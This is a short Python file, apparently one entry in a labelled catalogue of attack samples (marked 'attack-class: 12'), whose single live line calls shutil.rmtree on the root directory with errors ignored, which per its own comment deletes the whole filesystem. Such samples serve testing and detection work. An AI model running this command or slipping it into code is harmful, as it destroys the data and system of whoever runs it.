# attack-class: 12
# title: shutil.rmtree('/')
# why: recursive delete of the whole filesystem

import shutil

shutil.rmtree("/", ignore_errors=True)
